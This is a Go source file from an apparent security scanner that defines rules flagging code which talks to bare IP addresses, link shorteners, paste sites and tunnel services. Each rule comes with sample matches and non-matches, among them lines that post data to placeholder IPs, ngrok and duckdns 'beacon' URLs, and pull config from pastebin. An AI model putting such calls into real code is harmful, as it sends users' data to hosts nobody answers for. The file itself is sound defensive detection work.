package rules

import (
	"strings"

	"github.com/symbi-ctl/symbi-ctl/pkg/skills/host"
	"github.com/symbi-ctl/symbi-ctl/pkg/skills/text"
)

// Hosts is the category of rules about places that nobody answers for.
const Hosts Category = "untrusted-host"

func hosts() []Rule {
	return []Rule{rawAddress(), shortLink(), pasteFetch(), tunnelAddress()}
}

func rawAddress() Rule {
	return Rule{
		ID: "raw-ip-address", Severity: Medium, Confidence: Certain, Category: Hosts,
		Title:    "Request to a bare IP address",
		Why:      "An address without a name has no owner a reader can look up and no certificate that names one.",
		Fix:      "Use a host name with TLS.",
		Refs:     []string{"ASI04", "AST01", "CWE-1327"},
		In:       text.Code | text.Data | text.Frontmatter | text.Prose | text.Comment,
		Triggers: []string{"://0x", "://1", "://2", "://3", "://4", "://5", "://6", "://7", "://8", "://9", "://0"},
		Judge:    judgeRawAddress,
		Hits: []Sample{
			{Path: "a.sh", Text: "curl -s http://203.0.113.7:8080/stage -o /dev/null"},
			{Path: "a.py", Text: "requests.post('http://198.51.100.4/c', data=x)"},
			{Path: "a.js", Text: "fetch('http://0xcb007107/x')"},
			{Path: "a.js", Text: "const ws = new WebSocket('ws://203.0.113.7:9001')"},
		},
		Misses: []Sample{
			{Path: "a.sh", Text: "curl -s http://127.0.0.1:8080/health"},
			{Path: "a.sh", Text: "curl -s https://1.1.1.1/dns-query?name=x"},
			{Path: "a.py", Text: "requests.get('http://192.168.1.20/api')"},
			{Text: "Version 2 of https://24hours.evil.invalid/ is out."},
		},
	}
}

func judgeRawAddress(s *Scene) []Hit {
	var hits []Hit
	for _, a := range s.Addresses() {
		if a.Class != host.RawIP || wellKnownAddress(a.Host) {
			continue
		}
		h := Hit{Pos: a.Pos, End: a.End}
		if !s.Where.Has(text.Payload) && (s.Where.Has(text.Prose|text.Frontmatter|text.Data) || !requesting().MatchString(s.Text)) {
			h.Severity = Low
		}
		hits = append(hits, h)
	}
	return hits
}

// wellKnownAddress reports whether an address belongs to a public name server.
func wellKnownAddress(h string) bool {
	switch h {
	case "1.1.1.1", "1.0.0.1", "8.8.8.8", "8.8.4.4", "9.9.9.9", "149.112.112.112", "208.67.222.222", "208.67.220.220", "223.5.5.5", "223.6.6.6", "114.114.114.114", "119.29.29.29", "1.2.3.4", "2.2.2.2", "3.3.3.3", "4.4.4.4", "5.6.7.8", "100.100.100.200":
		return true
	}
	return false
}

func shortLink() Rule {
	return Rule{
		ID: "short-link-in-code", Severity: Medium, Confidence: Certain, Category: Hosts,
		Title:    "Short link fetched by code",
		Why:      "A short link hides where it leads and can be pointed elsewhere after the review.",
		Fix:      "Write the full address.",
		Refs:     []string{"ASI04", "AST01", "CWE-601"},
		In:       text.Code | text.Prose,
		Triggers: []string{"://bit.ly/", "tinyurl.com/", "://is.gd/", "://v.gd/", "cutt.ly/", "rebrand.ly/", "shorturl.at/", "://t.ly/", "rb.gy/", "tiny.cc/", "://git.io/", "://goo.gl/", "clck.ru/", "://s.id/"},
		Judge: func(s *Scene) []Hit {
			return s.fetchedFrom(host.Shortener)
		},
		Hits: []Sample{
			{Text: "Run `curl -L https://bit.ly/3abcdef -o tool`."},
			{Path: "a.py", Text: "requests.get('https://tinyurl.com/abcd')"},
			{Path: "a.sh", Text: "wget https://cutt.ly/xyz"},
		},
		Misses: []Sample{
			{Text: "Docs: https://bit.ly/3abcdef"},
			{Text: "Shortens links as bit.ly does."},
			{Path: "a.sh", Text: "curl -s \"https://tinyurl.com/api-create.php?url=$1\""},
			{Path: "a.py", Text: "# see https://bit.ly/3abcdef"},
		},
	}
}

func pasteFetch() Rule {
	return Rule{
		ID: "paste-site-fetch", Severity: Medium, Confidence: Certain, Category: Hosts,
		Title:    "Text of a paste site fetched by code",
		Why:      "Malware keeps its orders and addresses in pastes, since they can be changed at any time and leave no trace.",
		Fix:      "Keep the data in the skill, or on a host that its publisher owns.",
		Refs:     []string{"ASI04", "AST01", "CWE-829"},
		In:       text.Code,
		Triggers: []string{"pastebin.com/raw", "rentry.co/", "rentry.org/", "paste.ee/", "hastebin.com/raw", "paste.rs/", "dpaste.com/", "glot.io/", "paste.debian.net/", "://ix.io/", "telegra.ph/", "controlc.com/", "snippet.host/", "pastes.io/", "termbin.com/"},
		Judge: func(s *Scene) []Hit {
			return s.fetchedFrom(host.Paste)
		},
		Hits: []Sample{
			{Path: "a.py", Text: "cfg = requests.get('https://pastebin.com/raw/abcd1234').json()"},
			{Path: "a.sh", Text: "curl -s https://rentry.co/x/raw -o conf"},
			{Path: "a.js", Text: "const t = await fetch('https://paste.rs/abc')"},
		},
		Misses: []Sample{
			{Path: "a.sh", Text: "echo hello | nc termbin.com 9999"},
			{Path: "a.py", Text: "# based on https://pastebin.com/raw/abcd1234"},
			{Path: "a.py", Text: "PASTE_HOSTS = ['pastebin.com/raw', 'rentry.co/']"},
		},
	}
}

func tunnelAddress() Rule {
	return Rule{
		ID: "tunnel-address", Severity: Medium, Confidence: Likely, Category: Hosts,
		Title:    "Program talks to somebody's tunnel",
		Why:      "A tunnel leads to a machine at home that is there today and somebody else's tomorrow.",
		Fix:      "Read the address from the settings.",
		Refs:     []string{"ASI04", "AST01", "CWE-829"},
		In:       text.Script | text.Payload,
		Triggers: []string{"ngrok", "trycloudflare.com", "loca.lt", "serveo.net", "localhost.run", "bore.pub", "pinggy", "duckdns.org", ".ddns.net", "no-ip.org", ".hopto.org", ".zapto.org", ".onion"},
		Judge: func(s *Scene) []Hit {
			return s.fetchedFrom(host.Tunnel)
		},
		Hits: []Sample{
			{Path: "a.py", Text: "requests.post('https://1234-56-78.ngrok-free.app/up', json=d)"},
			{Path: "a.sh", Text: "curl -s https://abc-def.trycloudflare.com/x"},
			{Path: "a.js", Text: "fetch('http://x.duckdns.org/beacon')"},
		},
		Misses: []Sample{
			{Path: "a.sh", Text: "ngrok http 3000"},
			{Path: "a.py", Text: "requests.get('http://localhost:4040/api/tunnels')  # ngrok"},
			{Text: "Your webhook is then https://1234.ngrok-free.app/hook"},
		},
	}
}

// fetchedFrom returns hits on addresses of a class in code that makes requests.
func (s *Scene) fetchedFrom(class host.Class) []Hit {
	if !requesting().MatchString(s.Text) {
		return nil
	}
	var hits []Hit
	for _, a := range s.Addresses() {
		if a.Class == class && !makesLinks(a.Address) {
			hits = append(hits, Hit{Pos: a.Pos, End: a.End})
		}
	}
	return hits
}

// makesLinks reports whether an address is the service's own interface, where
// links and pages are made.
func makesLinks(a host.Address) bool {
	return strings.HasPrefix(a.Host, "api.") || strings.HasPrefix(a.Path, "/api") || strings.HasPrefix(a.Path, "/create")
}

//nolint:gochecknoglobals // compiled on first use
var requesting = lazy(`(?i)\b(?:curl|wget|fetch|axios|requests\.\w+|httpx?\.\w+|urlopen|urlretrieve|http\.(?:get|request|post)|got|needle|superagent|ky|Invoke-\w+|iwr|irm|XMLHttpRequest|WebSocket|socket|connect|net\.(?:connect|createConnection)|sendBeacon|download\w*|aiohttp|session\.\w+|client\.\w+|LWP|Net::HTTP|file_get_contents|HttpClient|aria2c)\b\s*(?:[.(]|-|["']?https?:|\s)`)
